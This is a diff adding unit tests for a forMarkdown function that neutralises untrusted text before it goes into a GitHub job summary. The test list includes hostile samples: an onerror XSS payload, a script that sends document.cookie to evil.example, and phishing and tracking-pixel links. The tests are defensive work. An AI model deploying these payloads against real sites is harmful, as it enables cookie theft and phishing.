@@ -1,5 +1,6 @@
 import * as assert from 'node:assert/strict';
-import { forMessage, forTerminal } from '../../src/core/untrusted';
+import { createRequire } from 'node:module';
+import { forMarkdown, forMessage, forTerminal } from '../../src/core/untrusted';
 
 /**
  * What VS Code turns into a clickable link in a notification's text (a label in brackets, then
@@ -57,6 +58,48 @@ describe('untrusted text, made safe to show', () => {
       }
       // Not at the start of a line: left alone.
       assert.equal(forTerminal('error: a::b'), 'error: a::b');
+    });
+  });
+
+  describe('forMarkdown (a GitHub job summary)', () => {
+    // The oracle: markdown-it (already installed with @vscode/vsce), CommonMark with HTML and
+    // bare-URL links on, as GitHub renders a summary before its own sanitiser.
+    type Renderer = { render(text: string): string };
+    const MarkdownIt = createRequire(__filename)('markdown-it') as new (options: object) => Renderer;
+    const md = new MarkdownIt({ html: true, linkify: true });
+    const decode = (html: string) =>
+      html
+        .replace(/<\/?p>\n?/g, '')
+        .replace(/&lt;/g, '<')
+        .replace(/&gt;/g, '>')
+        .replace(/&quot;/g, '"')
+        .replace(/&#39;/g, "'")
+        .replace(/&amp;/g, '&');
+
+    const hostile = [
+      '<img src=x onerror=alert(1)>',
+      '<script>fetch("https://evil.example/?c="+document.cookie)</script>',
+      '[Renew your key](https://evil.example/login)',
+      '![tracker](https://evil.example/pixel.png)',
+      '**urgent** _now_ `code` ~~gone~~',
+      '# Heading\n- a list\n| a | table |\n|---|---|',
+      'see https://evil.example/x and www.evil.example',
+      '<!-- hidden --> &lt;not a tag&gt; &copy;',
+      '1. numbered :rocket: \\ backslash',
+    ];
+
+    for (const text of hostile) {
+      it(`renders ${JSON.stringify(text.slice(0, 40))} as the same plain text`, () => {
+        const html = md.render(forMarkdown(text));
+        assert.doesNotMatch(html, /<(?!\/?p>)[a-z!/]/i, html);
+        assert.equal(decode(html).trim(), text.replace(/[\r\n\t]+/g, ' '));
+      });
+    }
+
+    it('is one line, with control characters as escapes, and plain words untouched', () => {
+      assert.equal(forMarkdown('Export 42 completed'), 'Export 42 completed');
+      assert.doesNotMatch(forMarkdown('a\nb\r\nc\u2028d'), /[\r\n\u2028]/);
+      assert.equal(decode(md.render(forMarkdown('a\u001b[31m\u202eb'))).trim(), 'a\\u001b[31m\\u202eb');
     });
   });
 });
